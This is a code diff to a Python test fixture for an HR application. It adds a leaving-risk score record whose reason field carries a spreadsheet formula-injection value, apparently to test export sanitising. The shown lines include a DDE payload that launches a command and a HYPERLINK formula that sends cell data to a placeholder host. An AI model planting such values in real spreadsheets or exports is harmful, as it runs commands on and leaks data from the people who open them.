@@ -24,6 +24,7 @@ from gmassist.core.services import audit_record, proposal_reject
 from gmassist.core.views_lib import ListPage
 from gmassist.lib.tabular import is_formula_like
 from gmassist.org.models import Employee, Position
+from gmassist.talent.models import RiskModelRun, RiskScore
 
 HYPERLINK = '=HYPERLINK("http://x/?"&B2,"Open")'
 CMD = "+cmd|' /C calc'!A0"
@@ -108,6 +109,19 @@ def hostile(cast):
         target_id="4",
         target_repr=HYPERLINK,
         changes={"full_name": [MINUS, HYPERLINK], "nested": {"pay": Decimal("1.5")}},
+    )
+    # a leaving-risk score whose person's name and reason start with formula signs
+    run = RiskModelRun.objects.create(
+        as_of=dt.date(2026, 10, 31), version="leaving-1", backtest_auc=0.7, scored=1
+    )
+    RiskScore.objects.create(
+        run=run,
+        employee=Employee.objects.get(employee_no="E004"),
+        as_of=run.as_of,
+        probability=0.4,
+        reasons=[{"feature": CMD, "value": 1.0, "effect": 0.5}],
+        model_version="leaving-1",
+        model_auc=0.7,
     )
     return cast
 
